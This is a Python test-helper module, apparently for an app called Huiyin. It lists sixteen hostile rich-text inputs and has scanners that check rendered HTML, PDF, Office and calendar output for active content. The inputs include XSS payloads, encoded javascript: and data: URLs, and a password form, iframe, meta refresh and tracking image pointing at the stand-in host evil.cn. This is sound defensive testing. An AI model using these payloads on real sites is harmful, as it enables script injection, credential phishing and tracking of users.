"""Bad inputs 73–88 (security.md D), rich text, by their numbers; and what would be active in what is shown of them.

Huiyin has no rich text: what is typed is plain text wherever it is shown. So nothing of it may become an element, an
address, a formula, a relation of a Word file, a property of a calendar.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

from pypdf import PdfReader
from pypdf.generic import IndirectObject

RICH: dict[str, str] = {
    "73 script": "甲<script>alert(1)</script>乙",
    "74 onerror": "甲<img src=x onerror=alert(1)>\"' onmouseover='alert(1)' x=\"",
    "75 javascript address": "甲<a href=\"jav&#x09;ascript:alert(1)\">请看</a> javascript:alert(1) &#106;avascript:alert(1)",
    "76 data address": "甲<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>请看</a>",
    "77 svg mutation": "甲<svg><style><img title='</style><img src onerror=alert(1)>'></svg><math><mtext><mglyph><style>",
    "78 style overlay": "甲<div style='position:fixed;inset:0;z-index:9999;background:red'>请重新登录</div>",
    "79 remote image": "甲<img src='https://evil.cn/p.gif?who=1'>![图](https://evil.cn/p.gif)",
    "80 form": "甲<form action='https://evil.cn/'><input name=password><button>登录</button></form>",
    "81 iframe": "甲<iframe src='https://evil.cn/' srcdoc='<script>alert(1)</script>'></iframe>",
    "82 meta refresh": "甲<meta http-equiv=refresh content='0;url=https://evil.cn/'>",
    "83 base": "甲<base href='https://evil.cn/'>",
    "84 clobbering": "甲<form id=main name=body><input id=attributes name=cookie></form>",
    "85 unclosed": "甲<textarea><title><!--<plaintext><a href='",
    "86 nested": "甲" + "<div>" * 10_000,
    "87 Word paste": "甲<!--[if gte mso 9]><xml><o:p></o:p></xml><![endif]--><p class=MsoNormal>乙<![CDATA[</p>]]>",
    "88 foreign links": "甲 //evil.cn/x https://evil.cn/ http://xn--80ak6aa92e.com/ <a href=//evil.cn>官网</a>",
}
HARMLESS = "和代表商定了。"

_NEVER = {
    "iframe", "object", "embed", "base", "frame", "frameset", "applet", "math", "style", "audio", "video", "source",
    "plaintext", "foreignobject", "mglyph", "xml", "o:p",
}  # fmt: skip
_ADDRESSES = ("href", "src", "action", "formaction", "srcdoc", "xlink:href", "poster", "background", "data", "ping", "srcset")
_HTMX = re.compile(r"hx-(?:get|post|put|patch|delete|on)")


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: Counter[str] = Counter()
        self.ids: Counter[str] = Counter()

    def handle_endtag(self, tag: str) -> None:
        self.open[tag] -= 1

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        got = {name: value or "" for name, value in attrs}
        self.open[tag] += 1
        self.ids.update([got["id"]] if "id" in got else [])
        if tag in _NEVER:
            self.found.append(f"<{tag}>")
        if tag == "script" and not got.get("src", "").startswith("/static/"):
            self.found.append(f"<script {got}>")
        if tag == "meta" and "http-equiv" in got:
            self.found.append(f"<meta {got}>")
        if tag == "img" and "alt" not in got:
            self.found.append(f"<img {got}>: every picture of ours has its alt")
        if (tag, got.get("class")) == ("p", "MsoNormal") or got.get("name") in ("cookie", "password"):
            self.found.append(f"<{tag} {got}>")
        for name, value in got.items():
            if name.startswith("on") or name == "style":
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in _ADDRESSES or _HTMX.match(name):
                bare = re.sub(r"[\x00-\x20]", "", value).lower()
                at = urlsplit(bare)
                if at.netloc or at.scheme not in ("", "tel"):
                    self.found.append(f"<{tag} {name}={value!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.open[tag] -= 1

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data[:40]}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data[:40]}")


def active_in(page: str) -> list[str]:
    """What a browser would act upon and we did not write: elements, handlers, foreign addresses, what swallows the rest of
    the page. Ids stand once."""
    scanner = _Scanner()
    scanner.feed(page)
    scanner.close()
    unclosed = [f"<{tag}> unclosed" for tag in ("div", "textarea", "title", "form", "a", "p", "main") if scanner.open[tag]]
    return scanner.found + unclosed + [f"id {one} twice" for one, many in scanner.ids.items() if many > 1]


def active_in_pdf(content: bytes) -> list[str]:
    """Actions, scripts, files inside, forms and links to elsewhere, anywhere in the file."""
    reader, found = PdfReader(io.BytesIO(content)), []
    for one in _objects(reader.trailer["/Root"], set()):
        for name in ("/JS", "/JavaScript", "/Launch", "/OpenAction", "/AA", "/AcroForm", "/URI", "/RichMedia"):
            if name in one and not str(one[name]).startswith("tel:"):
                found.append(f"{name}: {str(one[name])[:80]}")
    return found


def _objects(start: object, seen: set[int]) -> Iterator[dict[str, object]]:
    stack = [start]
    while stack:
        one = stack.pop()
        if isinstance(one, IndirectObject):
            if one.idnum in seen:
                continue
            seen.add(one.idnum)
            one = one.get_object()
        if isinstance(one, dict):
            yield one
            stack += [dict.__getitem__(one, key) for key in one]
        elif isinstance(one, list):
            stack += list(one)


def active_in_office_file(content: bytes) -> list[str]:
    """Of Word and of spreadsheets: relations to elsewhere, formulas, fields, macros; each part is well-formed XML."""
    from xml.etree import ElementTree

    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        for name in file.namelist():
            if name.endswith((".bin", ".vml")) or "embeddings" in name:
                found.append(name)
            if not name.endswith((".xml", ".rels")):
                continue
            root = ElementTree.fromstring(file.read(name))
            for one in root.iter():
                tag = one.tag.rpartition("}")[2]
                if one.get("TargetMode") == "External" or tag in ("f", "hyperlink", "instrText", "fldSimple", "object", "altChunk"):
                    if tag == "instrText" and (one.text or "").split()[:1] in (["PAGE"], ["NUMPAGES"]):
                        continue
                    if tag == "fldSimple" and "PAGE" in str(one.attrib):
                        continue
                    found.append(f"{name}: {tag} {one.attrib} {(one.text or '')[:60]}")
    return found


_PROPERTIES = {
    "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "METHOD", "UID", "DTSTAMP", "DTSTART", "DTEND", "DURATION", "SUMMARY",
    "DESCRIPTION", "LOCATION", "SEQUENCE", "STATUS", "TRANSP", "TRIGGER", "ACTION", "TZID", "TZNAME", "TZOFFSETFROM",
    "TZOFFSETTO", "X-WR-CALNAME", "X-WR-TIMEZONE", "NAME", "REFRESH-INTERVAL", "X-PUBLISHED-TTL",
}  # fmt: skip


def active_in_calendar(content: str) -> list[str]:
    """Properties that are none of ours: addresses, attachments, people to be mailed, HTML beside the words."""
    names = [line.partition(":")[0].partition(";")[0] for line in content.replace("\r\n ", "").split("\r\n") if line]
    return sorted(set(names) - _PROPERTIES)
